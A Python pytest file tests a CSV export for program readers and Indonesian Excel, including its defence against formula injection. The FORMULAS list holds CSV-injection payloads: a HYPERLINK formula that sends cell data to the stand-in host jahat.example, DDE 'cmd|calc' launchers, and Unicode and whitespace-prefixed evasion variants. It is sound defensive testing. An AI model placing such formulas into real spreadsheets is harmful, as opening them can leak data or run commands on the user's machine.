"""Answers as CSV: what a program reads back, and what Excel in Indonesia makes of it."""

import csv
from datetime import UTC, date, datetime
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel

from shared.http.answering import Page
from shared.http.spreadsheet import Dialect, as_csv
from shared.texts import like_a_formula


class Line(BaseModel):
    """A line of a list."""

    text: str
    share: float | None = None
    sold_on: date | None = None
    heard_at: datetime | None = None
    open: bool = False


class Place(BaseModel):
    """Something within something else."""

    code: str
    seen_at: datetime | None = None


class Gerai(BaseModel):
    """Something with a list in it, and more beside it."""

    name: str
    lines: list[Line]
    tags: list[str]
    place: Place | None = None


def page(*lines: Line) -> Page[Line]:
    return Page(items=list(lines), next=None, position=7)


def plain(*lines: Line) -> list[list[str]]:
    return list(csv.reader(StringIO(as_csv(page(*lines), Page[Line], None).decode())))


def excel(*lines: Line) -> list[list[str]]:
    text = as_csv(page(*lines), Page[Line], "excel-id").decode("utf-8-sig")
    return list(csv.reader(StringIO(text), delimiter=";"))


def test_an_empty_list_still_has_its_columns() -> None:
    assert plain() == [["text", "share", "sold_on", "heard_at", "open"]]


def test_the_columns_of_a_list_come_first_whatever_stands_beside_it() -> None:
    for gerai in (
        Gerai(name="Sembako", lines=[], tags=[]),
        Gerai(name="Sembako", lines=[], tags=[], place=Place(code="31.72")),
    ):
        (header,) = csv.reader(StringIO(as_csv(gerai, Gerai, None).decode()))
        assert header[:5] == ["text", "share", "sold_on", "heard_at", "open"]
        assert header[5:] == ["name", "tags", "place_code", "place_seen_at"]


def test_what_stands_beside_a_list_is_repeated_in_each_of_its_rows() -> None:
    gerai = Gerai(name="Sembako", lines=[Line(text="a"), Line(text="b")], tags=["x", "y"])
    rows = list(csv.DictReader(StringIO(as_csv(gerai, Gerai, None).decode())))
    assert [(row["name"], row["tags"], row["text"]) for row in rows] == [
        ("Sembako", "x | y", "a"),
        ("Sembako", "x | y", "b"),
    ]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))))
def test_any_text_is_read_back_as_it_was_but_for_the_apostrophe_before_a_formula(
    texts: list[str],
) -> None:
    # a reader folds line ends inside of a quoted text, so these are left as they are
    text = as_csv(page(*(Line(text=text) for text in texts)), Page[Line], None).decode()
    rows = list(csv.DictReader(StringIO(text, newline="")))
    for row, said in zip(rows, texts, strict=True):
        assert row["text"] == said or (like_a_formula(said) and row["text"] == f"'{said}")


def test_a_program_gets_instants_as_json_has_them() -> None:
    heard = datetime(2025, 11, 4, 16, 59, 59, tzinfo=UTC)
    line = Line(text="Beras", heard_at=heard)
    assert plain(line)[1][3] == line.model_dump(mode="json")["heard_at"] == "2025-11-04T16:59:59Z"


def test_excel_is_told_in_the_header_which_time_it_is() -> None:
    assert excel()[0] == [
        "text",
        "share",
        "Tanggal penjualan",
        "heard_at (WIB)",
        "Buka",
    ]


def test_excel_in_indonesia_gets_its_decimal_commas_its_own_time_and_yes_and_no() -> None:
    heard = datetime(2025, 11, 4, 16, 59, 59, tzinfo=UTC)
    line = Line(text="Beras", share=7.5, sold_on=date(2025, 11, 4), heard_at=heard, open=True)
    assert excel(line)[1] == ["Beras", "7,5", "2025-11-04", "2025-11-04 23:59:59", "ya"]


@given(st.text(st.characters(codec="ascii", exclude_characters="\0")))
def test_no_text_begins_a_formula_in_excel(text: str) -> None:
    (shown,) = [row[0] for row in excel(Line(text=text))[1:]] or [""]
    quoted_number = shown.startswith('="') and shown.endswith('"') and "(" not in shown
    assert quoted_number or not shown.startswith(("=", "+", "-", "@", "\t", "\r"))


FORMULAS = [
    *('=HYPERLINK("http://jahat.example/?x="&A1,"Klik")', "@SUM(A1:A9)", "+cmd|'/c calc'!A0"),
    *("-2+cmd|' /C calc'!A0", "\uff1d1+1+A1", "\uff20SUM(A1)", "\uff0bA1", "\uff0dA1"),
    *(" =A1", "\t=A1", "\r=A1", "\n=A1", "\ufeff=A1", "\u200b=A1", "\u00a0\uff1dA1", "\tBudi"),
]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("dialect", [None, "excel-id"])
def test_a_text_that_a_spreadsheet_would_run_is_no_formula_in_any_dialect(
    text: str, dialect: Dialect | None
) -> None:
    page = Page(items=[Line(text=text)], next=None, position=1)
    said = as_csv(page, Page[Line], dialect).decode("utf-8-sig")
    rows = list(csv.reader(StringIO(said, newline=""), delimiter=";" if dialect else ","))
    assert rows[1][0] == f"'{text}"


def test_numbers_and_telephones_stay_what_they_are_for_programs() -> None:
    page = Page(
        items=[Line(text="+62 812-7777-0001", share=-7.5), Line(text="-", share=-1e-9)],
        next=None,
        position=1,
    )
    rows = list(csv.reader(StringIO(as_csv(page, Page[Line], None).decode())))
    assert [row[:2] for row in rows[1:]] == [["+62 812-7777-0001", "-7.5"], ["-", "-1e-09"]]


def test_a_code_that_looks_like_a_number_or_a_time_stays_a_text() -> None:
    assert [row[0] for row in excel(Line(text="31.72.02"), Line(text="0812-7777"))[1:]] == [
        '="31.72.02"',
        '="0812-7777"',
    ]
